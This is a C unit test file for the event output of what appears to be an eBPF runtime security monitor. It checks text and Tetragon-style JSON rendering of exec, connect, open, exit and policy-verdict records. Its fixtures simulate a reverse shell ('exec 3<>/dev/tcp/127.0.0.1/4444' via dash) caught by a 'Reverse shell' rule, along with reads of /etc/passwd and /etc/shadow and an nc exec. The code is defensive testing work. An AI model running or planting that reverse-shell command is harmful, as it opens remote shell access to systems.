/* SPDX-License-Identifier: Apache-2.0 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/un.h>

#include <cjson/cJSON.h>
#include <cmocka.h>

#include "events/event.h"
#include "policy/points.h"
#include "records.h"

/* Of a container runtime's making. */
#define CONTAINER "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
#define INIT id_of(1, 1)
#define PYTHON id_of(30, 3000000000)
#define SHELL id_of(40, 4000000000)

/* 2026-11-23T15:44:06Z, the moment of boot. */
static const int64_t boot = 1795448646000000000;

struct world {
	struct process_table *processes;
	struct identity *identity;
	struct event_context context;
	struct buf out;
	cJSON *json;
};

static void apply(struct world *w, const struct tercel_hdr *r)
{
	assert_int_equal(process_table_apply(w->processes, r), 0);
}

static int set_up(void **state)
{
	static const char *const rules[] = {"Reverse shell", "Rule with \"quotes\"\033[2J"};
	static const struct event_rules policies[] = {{.generation = 2, .names = rules, .count = 1},
	                                              {.generation = 3, .names = rules, .count = 2}};
	struct world *w = calloc(1, sizeof(*w));
	assert_non_null(w);
	assert_int_equal(process_table_new(&w->processes, NULL), 0);
	assert_int_equal(identity_new(&w->identity, "node-1", 0), 0);
	assert_int_equal(identity_add(w->identity, 1, "/init.scope", 11), 0);
	assert_int_equal(identity_add(w->identity, 2, "/docker-" CONTAINER ".scope", 78), 0);
	w->context = (struct event_context){.processes = w->processes,
	                                    .identity = w->identity,
	                                    .clock_offset = boot,
	                                    .policies = policies,
	                                    .npolicies = 2};
	apply(w, make_seed(INIT, (struct tercel_exec_id){0}, "/usr/lib/systemd/systemd"));
	apply(w, make_fork(2000000000, INIT, id_of(30, 2000000000), "systemd"));
	struct tercel_exec *x = make_image(TERCEL_EXEC, PYTHON, INIT, 2000000000, "/usr/bin/python3", "python3 app.py");
	x->proc.cgroup_id = 2;
	x->proc.vtgid = 1;
	x->proc.pidns_start = 2000000000;
	x->proc.pidns = 4026532000;
	apply(w, &x->hdr);
	struct tercel_fork *f = (void *)make_fork(3500000000, PYTHON, id_of(40, 3500000000), "python3");
	f->cgroup_id = 2;
	f->pidns_start = 2000000000;
	f->child_vtgid = 7;
	apply(w, &f->hdr);
	*state = w;
	return 0;
}

static int tear_down(void **state)
{
	struct world *w = *state;
	cJSON_Delete(w->json);
	buf_free(&w->out);
	buf_free(&w->context.scratch);
	process_table_free(w->processes);
	identity_free(w->identity);
	free(w);
	return 0;
}

static struct tercel_hdr *shell_exec(void)
{
	struct tercel_exec *x = make_image(TERCEL_EXEC, SHELL, PYTHON, 3500000000, "/usr/bin/dash", "");
	static const char args[] = "/bin/sh\0-c\0exec 3<>/dev/tcp/127.0.0.1/4444";
	x->args = append(args, sizeof(args));
	x->proc.cgroup_id = 2;
	x->proc.vtgid = 7;
	x->proc.pidns_start = 2000000000;
	x->proc.pidns = 4026532000;
	x->proc.creds = (struct tercel_creds){.uid = 1000,
	                                      .gid = 100,
	                                      .euid = 0,
	                                      .egid = 100,
	                                      .suid = 5,
	                                      .sgid = 6,
	                                      .fsuid = 7,
	                                      .fsgid = 8,
	                                      .cap_permitted = 1ULL << 40 | 3,
	                                      .cap_effective = 1};
	return &x->hdr;
}

static struct tercel_connect *connect_record(const void *addr, size_t len, __s64 ret)
{
	struct tercel_connect *k = make(TERCEL_CONNECT, sizeof(*k), 5123456789, SHELL, 0);
	memcpy(k->addr, addr, len);
	k->addr_len = (__u32)len;
	k->family = ((const struct sockaddr *)addr)->sa_family;
	k->sock_type = SOCK_STREAM;
	k->protocol = k->family == AF_UNIX ? 0 : IPPROTO_TCP;
	k->ret = ret;
	return k;
}

static struct tercel_connect *connect_inet(__s64 ret)
{
	struct sockaddr_in in = {
	        .sin_family = AF_INET, .sin_port = htons(4444), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	return connect_record(&in, sizeof(in), ret);
}

static struct tercel_verdict *verdict(enum tercel_point point, enum tercel_action action, __u32 enforced)
{
	struct tercel_verdict *v = make(TERCEL_VERDICT, sizeof(*v), 5000000000, SHELL, 0);
	v->generation = 3;
	v->point = (__u16)point;
	v->action = (__u8)action;
	v->mode = enforced ? TERCEL_MODE_ENFORCE : TERCEL_MODE_MONITOR;
	v->enforced = enforced;
	if (point != TERCEL_POINT_EXEC_COMMIT) {
		v->remote = (struct tercel_endpoint){.addr = {127, 0, 0, 1}, .port = 4444, .family = AF_INET};
		v->protocol = IPPROTO_TCP;
	}
	return v;
}

static const char *text(struct world *w, const struct tercel_hdr *r)
{
	buf_reset(&w->out);
	assert_int_equal(event_write(&w->out, &w->context, r, EVENT_TEXT), 1);
	return buf_str(&w->out);
}

/* Parses what was written: one line, one object. Returns the event's object. */
static const cJSON *json(struct world *w, const struct tercel_hdr *r, const char *kind)
{
	buf_reset(&w->out);
	assert_int_equal(event_write(&w->out, &w->context, r, EVENT_JSON), 1);
	assert_ptr_equal(strchr(buf_str(&w->out), '\n'), buf_str(&w->out) + w->out.len - 1);
	cJSON_Delete(w->json);
	w->json = cJSON_ParseWithOpts(buf_str(&w->out), NULL, 0);
	assert_non_null(w->json);
	assert_string_equal(w->json->child->string, kind);
	return w->json->child;
}

static const cJSON *at(const cJSON *o, const char *path)
{
	char name[64];
	while (*path) {
		size_t len = strcspn(path, ".");
		(void)snprintf(name, sizeof(name), "%.*s", (int)len, path);
		o = cJSON_IsArray(o) ? cJSON_GetArrayItem(o, atoi(name)) : cJSON_GetObjectItemCaseSensitive(o, name);
		path += len + (path[len] == '.');
	}
	return o;
}

static void expect(const cJSON *o, const char *path, const char *value)
{
	const cJSON *item = at(o, path);
	if (!cJSON_IsString(item))
		fail_msg("%s is no string", path);
	assert_string_equal(item->valuestring, value);
}

static void expect_number(const cJSON *o, const char *path, double value)
{
	const cJSON *item = at(o, path);
	if (!cJSON_IsNumber(item))
		fail_msg("%s is no number", path);
	assert_true(item->valuedouble == value);
}

static void an_exec_is_written_in_tetragons_schema(void **state)
{
	struct world *w = *state;
	const struct tercel_hdr *r = shell_exec();
	apply(w, r);
	const cJSON *e = json(w, r, "process_exec");
	expect(w->json, "node_name", "node-1");
	expect(w->json, "time", "2026-11-23T15:44:10.000000000Z");
	expect(e, "process.exec_id", "bm9kZS0xOjQwMDAwMDAwMDA6NDA=");
	expect(e, "process.parent_exec_id", "bm9kZS0xOjMwMDAwMDAwMDA6MzA=");
	expect_number(e, "process.pid", 40);
	expect_number(e, "process.tid", 40);
	expect_number(e, "process.uid", 0); /* the effective one */
	expect_number(e, "process.auid", 4294967295);
	expect(e, "process.cwd", "/");
	expect(e, "process.binary", "/usr/bin/dash");
	expect(e, "process.arguments", "-c \"exec 3<>/dev/tcp/127.0.0.1/4444\"");
	expect(e, "process.flags", "execve rootcwd clone");
	expect(e, "process.start_time", "2026-11-23T15:44:10.000000000Z");
	expect(e, "process.docker", "0123456789abcdef0123456789abcde");
	expect(e, "process.cap.permitted.0", "CAP_CHOWN");
	expect(e, "process.cap.permitted.1", "DAC_OVERRIDE");
	expect(e, "process.cap.permitted.2", "CAP_CHECKPOINT_RESTORE");
	expect(e, "process.cap.effective.0", "CAP_CHOWN");
	assert_null(at(e, "process.cap.inheritable"));
	expect_number(e, "process.process_credentials.uid", 1000);
	expect_number(e, "process.process_credentials.fsgid", 8);
	expect_number(e, "process.ns.pid.inum", 4026532000);
	assert_true(cJSON_IsTrue(at(e, "process.in_init_tree"))); /* python3 is the init of its namespace */
	expect(e, "parent.binary", "/usr/bin/python3");
	expect(e, "parent.arguments", "app.py");
	assert_null(at(e, "parent.cap"));
	expect(e, "ancestors.0.binary", "/usr/lib/systemd/systemd");
	expect(e, "ancestors.0.flags", "procFS rootcwd");
	assert_true(cJSON_IsFalse(at(e, "ancestors.0.in_init_tree")));
	assert_int_equal(cJSON_GetArraySize(at(e, "ancestors")), 1);
	expect(e, "tercel.lineage", "systemd>python3>dash");
}

static void an_exec_is_one_line_of_text(void **state)
{
	struct world *w = *state;
	const struct tercel_hdr *r = shell_exec();
	apply(w, r);
	assert_string_equal(text(w, r),
	                    "2026-11-23T15:44:10.000Z 0123456789ab      40 systemd>python3>dash             → exec "
	                    "/usr/bin/dash -c 'exec 3<>/dev/tcp/127.0.0.1/4444'\n");
}

static void a_connection_shows_who_with_which_arguments_and_where_to(void **state)
{
	struct world *w = *state;
	apply(w, shell_exec());
	struct tercel_connect *k = connect_inet(-EINPROGRESS);
	k->local = (struct tercel_endpoint){.addr = {127, 0, 0, 1}, .port = 51000, .family = AF_INET};
	k->remote = (struct tercel_endpoint){.addr = {127, 0, 0, 1}, .port = 4444, .family = AF_INET};
	k->hdr.tid = 41;
	assert_string_equal(
	        text(w, &k->hdr),
	        "2026-11-23T15:44:11.123Z 0123456789ab      40 systemd>python3>dash             → connect tcp "
	        "127.0.0.1:4444 = EINPROGRESS by /usr/bin/dash -c 'exec 3<>/dev/tcp/127.0.0.1/4444'\n");
	const cJSON *e = json(w, &k->hdr, "process_lsm");
	expect(w->json, "time", "2026-11-23T15:44:11.123456789Z");
	expect(e, "function_name", "socket_connect");
	expect(e, "action", "KPROBE_ACTION_POST");
	expect(e, "process.arguments", "-c \"exec 3<>/dev/tcp/127.0.0.1/4444\"");
	expect_number(e, "process.tid", 41);
	expect(e, "args.0.sockaddr_arg.family", "AF_INET");
	expect(e, "args.0.sockaddr_arg.addr", "127.0.0.1");
	expect_number(e, "args.0.sockaddr_arg.port", 4444);
	expect(e, "args.1.sock_arg.type", "SOCK_STREAM");
	expect(e, "args.1.sock_arg.protocol", "IPPROTO_TCP");
	expect(e, "args.1.sock_arg.saddr", "127.0.0.1");
	expect_number(e, "args.1.sock_arg.sport", 51000);
	expect_number(e, "args.2.int_arg", -EINPROGRESS);
	expect(e, "args.2.label", "return");
	expect(e, "tercel.lineage", "systemd>python3>dash");
	assert_null(at(e, "policy_name"));
}

static void addresses_of_every_kind_are_shown(void **state)
{
	struct world *w = *state;
	apply(w, shell_exec());
	struct sockaddr_in6 in6 = {.sin6_family = AF_INET6, .sin6_port = htons(53), .sin6_addr = IN6ADDR_LOOPBACK_INIT};
	struct sockaddr_un un = {.sun_family = AF_UNIX, .sun_path = "/run/x\033.sock"};
	struct sockaddr_un abstract = {.sun_family = AF_UNIX, .sun_path = "\0name"};
	struct sockaddr netlink = {.sa_family = AF_NETLINK};

	assert_non_null(strstr(text(w, &connect_record(&in6, sizeof(in6), 0)->hdr), "→ connect tcp [::1]:53 = 0 by"));
	expect(json(w, &connect_record(&in6, sizeof(in6), 0)->hdr, "process_lsm"), "args.0.sockaddr_arg.addr", "::1");
	assert_non_null(
	        strstr(text(w, &connect_record(&un, sizeof(un), 0)->hdr), "→ connect unix /run/x\\x1b.sock = 0"));
	expect(json(w, &connect_record(&un, sizeof(un), 0)->hdr, "process_lsm"), "args.0.sockaddrun_arg.path",
	       "/run/x\033.sock");
	assert_non_null(strstr(text(w, &connect_record(&abstract, 7, 0)->hdr), "→ connect unix @name = 0"));
	assert_non_null(
	        strstr(text(w, &connect_record(&netlink, sizeof(netlink), 0)->hdr), "→ connect AF_NETLINK = 0"));
	/* Cut or missing addresses are not read beyond their end. */
	assert_non_null(strstr(text(w, &connect_record(&in6, 4, -EINVAL)->hdr), "= EINVAL"));
	assert_non_null(strstr(text(w, &connect_record(&in6, 1, -EINVAL)->hdr), "= EINVAL"));
	struct tercel_connect *k = connect_record(&un, 2, 0);
	assert_non_null(strstr(text(w, &k->hdr), "connect unix  = 0"));
	k->addr_len = TERCEL_SOCKADDR_MAX + 1;
	assert_int_equal(event_write(&w->out, &w->context, &k->hdr, EVENT_JSON), -EBADMSG);
}

static struct tercel_open *open_record(const char *path, __u64 flags, __s64 ret)
{
	struct tercel_open *o = make(TERCEL_OPEN, sizeof(*o), 6000000000, SHELL, 0);
	o->flags = flags;
	o->ret = ret;
	o->dirfd = AT_FDCWD;
	o->path = append(path, strlen(path));
	return o;
}

static void opens_tell_path_mode_and_result(void **state)
{
	struct world *w = *state;
	apply(w, shell_exec());
	assert_non_null(strstr(text(w, &open_record("/etc/passwd", O_RDONLY, -ENOENT)->hdr),
	                       "→ open /etc/passwd (read) = ENOENT\n"));
	assert_non_null(strstr(text(w, &open_record("x\n→ y\xc2\x9b", O_WRONLY | O_CREAT | O_TRUNC, 3)->hdr),
	                       "→ open x\\x0a→ y\\xc2\\x9b (write, create, truncate) = 3\n"));
	const cJSON *e = json(w, &open_record("etc/passwd", O_RDWR, 3)->hdr, "process_lsm");
	expect(e, "function_name", "file_open");
	expect(e, "args.0.file_arg.path", "/etc/passwd"); /* relative to its directory, / */
	expect_number(e, "args.1.int_arg", O_RDWR);
	expect(e, "args.1.label", "flags");
	expect_number(e, "args.2.int_arg", 3);
	struct tercel_open *o = open_record("etc/passwd", O_RDWR, 3);
	o->dirfd = 5; /* relative to what is not known here */
	expect(json(w, &o->hdr, "process_lsm"), "args.0.file_arg.path", "etc/passwd");
}

static void an_exit_tells_signal_or_status(void **state)
{
	struct world *w = *state;
	apply(w, shell_exec());
	const struct tercel_hdr *r = make_exit(7000000000, SHELL, 9);
	apply(w, r);
	assert_non_null(strstr(text(w, r), "→ exit SIGKILL\n"));
	const cJSON *e = json(w, r, "process_exit");
	expect(e, "signal", "SIGKILL");
	expect(e, "time", "2026-11-23T15:44:13.000000000Z");
	expect(e, "process.binary", "/usr/bin/dash");
	assert_null(at(e, "status"));
	r = make_exit(7000000000, SHELL, 3 << 8);
	assert_non_null(strstr(text(w, r), "→ exit 3\n"));
	expect_number(json(w, r, "process_exit"), "status", 3);
	assert_non_null(strstr(text(w, make_exit(7000000000, SHELL, 11 | 0x80)), "→ exit SIGSEGV (core dumped)\n"));
	/* A thread's end is not an event. */
	buf_reset(&w->out);
	assert_int_equal(event_write(&w->out, &w->context, make_thread_exit(8000000000, SHELL, 41), EVENT_JSON), 0);
	assert_int_equal(w->out.len, 0);
}

static void a_verdict_says_rule_mode_action_point_strength_and_who(void **state)
{
	struct world *w = *state;
	apply(w, shell_exec());
	struct tercel_verdict *v = verdict(TERCEL_POINT_EXEC_COMMIT, TERCEL_ACTION_KILL, 1);
	assert_string_equal(
	        text(w, &v->hdr),
	        "2026-11-23T15:44:11.000Z 0123456789ab      40 systemd>python3>dash             → killed \"Reverse "
	        "shell\": exec /usr/bin/dash -c 'exec 3<>/dev/tcp/127.0.0.1/4444'\n");
	const cJSON *e = json(w, &v->hdr, "process_lsm");
	expect(e, "policy_name", "Reverse shell");
	expect(e, "action", "KPROBE_ACTION_SIGKILL");
	expect(e, "args.0.linux_binprm_arg.path", "/usr/bin/dash");
	expect(e, "process.arguments", "-c \"exec 3<>/dev/tcp/127.0.0.1/4444\"");
	expect(e, "parent.binary", "/usr/bin/python3");
	expect(e, "ancestors.0.binary", "/usr/lib/systemd/systemd");
	expect(e, "tercel.rule", "Reverse shell");
	expect(e, "tercel.mode", "enforce");
	expect(e, "tercel.action", "kill");
	expect(e, "tercel.point", "sched_process_exec");
	expect(e, "tercel.strength", "kill-before-run");
	expect_number(e, "tercel.generation", 3);
	expect(e, "tercel.lineage", "systemd>python3>dash");
	assert_int_equal(cJSON_GetArraySize(at(e, "tercel.uncertain")), 0);
}

/* A verdict with texts behind it. */
static struct tercel_verdict *verdict_on(enum tercel_point point, const char *path, const char *other)
{
	static _Alignas(8) char room[sizeof(struct tercel_verdict) + 256];
	struct tercel_verdict *v = (void *)room;
	*v = *verdict(point, TERCEL_ACTION_DENY, 1);
	v->path = (struct tercel_span){sizeof(*v), (__u32)strlen(path)};
	v->other = (struct tercel_span){sizeof(*v) + v->path.len, (__u32)strlen(other)};
	memcpy(room + v->path.off, path, v->path.len);
	memcpy(room + v->other.off, other, v->other.len);
	v->hdr.size = (__u32)(sizeof(*v) + v->path.len + v->other.len);
	v->remote = (struct tercel_endpoint){0};
	v->protocol = 0;
	return v;
}

static void a_verdict_names_what_was_acted_upon(void **state)
{
	struct world *w = *state;
	apply(w, shell_exec());
	struct tercel_verdict *v = verdict_on(TERCEL_POINT_FILE_OPEN, "/etc/sha dow", "");
	assert_non_null(strstr(text(w, &v->hdr), "→ denied \"Reverse shell\": open /etc/sha\\x20dow by /usr/bin/dash"));
	const cJSON *e = json(w, &v->hdr, "process_lsm");
	expect(e, "function_name", "file_open");
	expect(e, "args.0.file_arg.path", "/etc/sha dow");
	v = verdict_on(TERCEL_POINT_RENAME, "/a", "/b");
	assert_non_null(strstr(text(w, &v->hdr), ": rename /a to /b by /usr/bin/dash"));
	e = json(w, &v->hdr, "process_lsm");
	expect(e, "function_name", "path_rename");
	expect(e, "args.0.path_arg.path", "/a");
	expect(e, "args.1.path_arg.path", "/b");
	v = verdict_on(TERCEL_POINT_MOUNT, "/mnt", "tmpfs");
	assert_non_null(strstr(text(w, &v->hdr), ": mount /mnt from tmpfs by /usr/bin/dash"));
	expect(json(w, &v->hdr, "process_lsm"), "args.1.string_arg", "tmpfs");
	v = verdict_on(TERCEL_POINT_EXEC_CHECK, "/usr/bin/nc", "");
	expect(json(w, &v->hdr, "process_lsm"), "args.0.linux_binprm_arg.path", "/usr/bin/nc");
	v = verdict_on(TERCEL_POINT_KILL, "", "");
	v->target = 42;
	assert_non_null(strstr(text(w, &v->hdr), ": signal process 42 by /usr/bin/dash"));
	e = json(w, &v->hdr, "process_lsm");
	expect(e, "function_name", "task_kill");
	expect_number(e, "args.0.int_arg", 42);
}

static void a_monitored_verdict_claims_no_block(void **state)
{
	struct world *w = *state;
	apply(w, shell_exec());
	struct tercel_verdict *v = verdict(TERCEL_POINT_CONNECT4, TERCEL_ACTION_DENY, 0);
	assert_non_null(strstr(text(w, &v->hdr),
	                       "→ would deny \"Reverse shell\": connect tcp 127.0.0.1:4444 by /usr/bin/dash -c "));
	const cJSON *e = json(w, &v->hdr, "process_lsm");
	expect(e, "action", "KPROBE_ACTION_POST");
	expect(e, "tercel.mode", "monitor");
	expect(e, "tercel.action", "deny");
	expect(e, "tercel.point", "cgroup_connect4");
	expect(e, "args.0.sockaddr_arg.addr", "127.0.0.1");

	/* One that stands for others says so. */
	w->context.folded = 41;
	assert_non_null(strstr(text(w, &v->hdr), "4444' (and 41 more like it)\n"));
	assert_int_equal(at(json(w, &v->hdr, "process_lsm"), "tercel.folded")->valueint, 41);
	w->context.folded = 0;
	assert_null(at(json(w, &v->hdr, "process_lsm"), "tercel.folded"));

	v = verdict(TERCEL_POINT_CONNECT4, TERCEL_ACTION_DENY, 1);
	assert_non_null(strstr(text(w, &v->hdr), "→ denied \"Reverse shell\""));
	expect(json(w, &v->hdr, "process_lsm"), "action", "KPROBE_ACTION_OVERRIDE");
}

static void an_uncertain_verdict_names_its_reasons(void **state)
{
	struct world *w = *state;
	apply(w, shell_exec());
	struct tercel_verdict *v = verdict(TERCEL_POINT_EXEC_COMMIT, TERCEL_ACTION_AUDIT, 0);
	v->uncertain = TERCEL_U_CONTAINER | TERCEL_U_ANCESTORS;
	v->rule = 1;
	assert_non_null(strstr(text(w, &v->hdr),
	                       "→ uncertain, not blocked for want of container, ancestors \"Rule with "
	                       "\\x22quotes\\x22\\x1b[2J\": exec"));
	const cJSON *e = json(w, &v->hdr, "process_lsm");
	expect(e, "tercel.uncertain.0", "container");
	expect(e, "tercel.uncertain.1", "ancestors");
	expect(e, "policy_name", "Rule with \"quotes\"\033[2J");
	v->generation = 2; /* whose policy has one rule alone */
	expect(json(w, &v->hdr, "process_lsm"), "policy_name", "rule 1");
	v->generation = 4; /* of a policy whose names are not known */
	expect(json(w, &v->hdr, "process_lsm"), "policy_name", "rule 1");
}

static void an_unknown_process_is_said_to_be_unknown(void **state)
{
	struct world *w = *state;
	struct tercel_connect *k = connect_inet(0);
	k->hdr.exec_id = id_of(4711, 9);
	k->hdr.tgid = k->hdr.tid = 4711;
	const cJSON *e = json(w, &k->hdr, "process_lsm");
	expect(e, "process.flags", "unknown");
	expect_number(e, "process.pid", 4711);
	assert_null(at(e, "process.binary"));
	assert_null(at(e, "parent"));
	assert_non_null(strstr(text(w, &k->hdr), "?               4711 ?                                → connect"));
}

static void no_byte_of_a_name_reaches_the_terminal_raw(void **state)
{
	struct world *w = *state;
	for (unsigned byte = 1; byte < 256; byte++) {
		char args[] = {'a', '\0', 'x', (char)byte, 'y', '\0'};
		struct tercel_exec *x =
		        make_image(TERCEL_EXEC, id_of(40, 4000000000 + byte), PYTHON, 3500000000, "/bin/p", "");
		x->proc.comm[0] = (char)byte;
		x->args = append(args, sizeof(args));
		x->exe_path = append(args + 2, 3);
		apply(w, &x->hdr);
		const char *line = text(w, &x->hdr);
		for (size_t i = 0; i + 1 < w->out.len; i++)
			assert_true((unsigned char)line[i] >= 0x20 && line[i] != 0x7f);
		json(w, &x->hdr, "process_exec");
	}
	/* Bidirectional override, zero-width space, C1 control sequence introducer. */
	_autobuf_ struct buf b = BUF_INIT;
	/* NOLINTNEXTLINE(misc-misleading-bidirectional): it is what the test is about */
	static const char path[] = "/\xe2\x80\xae/\xe2\x80\x8b/\xc2\x9b/\xc3\xa9";
	struct tercel_exec *x = make_image(TERCEL_EXEC, id_of(40, 5000000000), PYTHON, 3500000000, path, "p");
	apply(w, &x->hdr);
	assert_non_null(strstr(text(w, &x->hdr), "/\\xe2\\x80\\xae/\\xe2\\x80\\x8b/\\xc2\\x9b/\xc3\xa9"));
}

static void colour_is_only_used_when_asked_for(void **state)
{
	struct world *w = *state;
	const struct tercel_hdr *r = shell_exec();
	apply(w, r);
	assert_null(strchr(text(w, r), '\033'));
	w->context.colour = EVENT_COLOUR;
	assert_non_null(strchr(text(w, r), '\033'));
}

static void cut_and_strange_images_are_marked(void **state)
{
	struct world *w = *state;
	struct tercel_exec *x = (void *)shell_exec();
	x->hdr.flags = TERCEL_F_TRUNC_ARGS | TERCEL_F_PATH_DELETED;
	x->proc.exe.flags = TERCEL_EXE_MEMFD;
	x->proc.exe.ino = 18446744073709551615ULL;
	apply(w, &x->hdr);
	assert_non_null(strstr(text(w, &x->hdr), " … [memfd]\n"));
	const cJSON *e = json(w, &x->hdr, "process_exec");
	expect(e, "process.flags", "execve truncArgs rootcwd clone");
	expect(e, "process.binary_properties.file.inode.number", "18446744073709551615"); /* 64 bits: a string */
	expect_number(e, "process.binary_properties.file.inode.links", 0);
}

static void times_are_right_from_epoch_to_leap_days(void **state)
{
	struct world *w = *state;
	static const struct {
		int64_t ns;
		const char *text;
	} cases[] = {
	        {0, "1970-01-01T00:00:00.000000000Z"},
	        {951782400123456789, "2000-02-29T00:00:00.123456789Z"},
	        {1709251199999999999, "2024-02-29T23:59:59.999999999Z"},
	        {4102444800000000000, "2100-01-01T00:00:00.000000000Z"},
	        {-1, "1969-12-31T23:59:59.999999999Z"},
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
		w->context.clock_offset = cases[i].ns - 6000000000;
		json(w, &open_record("/x", 0, 0)->hdr, "process_lsm");
		expect(w->json, "time", cases[i].text);
	}
}

/* A copy of its own size, so that the address sanitizer sees any byte read beyond it. */
static void show_damaged(struct world *w, const struct tercel_hdr *r)
{
	size_t size = r->size;
	unsigned char *copy = malloc(size);
	assert_non_null(copy);
	memcpy(copy, r, size);
	for (int i = rand() % 4; i >= 0; i--)
		copy[(size_t)rand() % size] = (unsigned char)rand();
	struct tercel_hdr *h = (void *)copy;
	if (h->size > size)
		h->size = (__u32)size; /* that much is there: the caller's promise */
	(void)process_table_apply(w->processes, h);
	buf_reset(&w->out);
	(void)event_write(&w->out, &w->context, h, EVENT_TEXT);
	buf_reset(&w->out);
	if (event_write(&w->out, &w->context, h, EVENT_JSON) == 1) {
		cJSON *o = cJSON_Parse(buf_str(&w->out));
		assert_non_null(o);
		cJSON_Delete(o);
	}
	free(copy);
}

static void damaged_records_are_refused_or_shown_but_never_read_beyond(void **state)
{
	struct world *w = *state;
	struct sockaddr_un un = {.sun_family = AF_UNIX, .sun_path = "/run/x"};
	srand(1);
	for (int i = 0; i < 4000; i++) {
		show_damaged(w, shell_exec());
		show_damaged(w, &connect_inet(0)->hdr);
		show_damaged(w, &connect_record(&un, sizeof(un), 0)->hdr);
		show_damaged(w, &open_record("/etc/passwd", O_RDWR, 3)->hdr);
		show_damaged(w, &verdict(TERCEL_POINT_CONNECT4, TERCEL_ACTION_DENY, 1)->hdr);
		show_damaged(w, make_fork(3500000000, PYTHON, id_of(50, 3500000000), "x"));
		show_damaged(w, make_exit(7000000000, SHELL, 9));
	}
}

static void decision_points_are_named_as_in_reports(void **state)
{
	(void)state;
	for (unsigned i = 0; i < TERCEL_POINTS; i++) {
		assert_string_equal(event_point_name((enum tercel_point)i), point_info((enum tercel_point)i)->name);
		assert_string_equal(event_point_strength((enum tercel_point)i),
		                    point_info((enum tercel_point)i)->strength);
	}
}

#define TEST(name) cmocka_unit_test_setup_teardown(name, set_up, tear_down)

int main(void)
{
	const struct CMUnitTest tests[] = {
	        TEST(an_exec_is_written_in_tetragons_schema),
	        TEST(an_exec_is_one_line_of_text),
	        TEST(a_connection_shows_who_with_which_arguments_and_where_to),
	        TEST(addresses_of_every_kind_are_shown),
	        TEST(opens_tell_path_mode_and_result),
	        TEST(an_exit_tells_signal_or_status),
	        TEST(a_verdict_says_rule_mode_action_point_strength_and_who),
	        TEST(a_verdict_names_what_was_acted_upon),
	        TEST(a_monitored_verdict_claims_no_block),
	        TEST(an_uncertain_verdict_names_its_reasons),
	        TEST(an_unknown_process_is_said_to_be_unknown),
	        TEST(no_byte_of_a_name_reaches_the_terminal_raw),
	        TEST(colour_is_only_used_when_asked_for),
	        TEST(cut_and_strange_images_are_marked),
	        TEST(damaged_records_are_refused_or_shown_but_never_read_beyond),
	        cmocka_unit_test(decision_points_are_named_as_in_reports),
	        TEST(times_are_right_from_epoch_to_leap_days),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
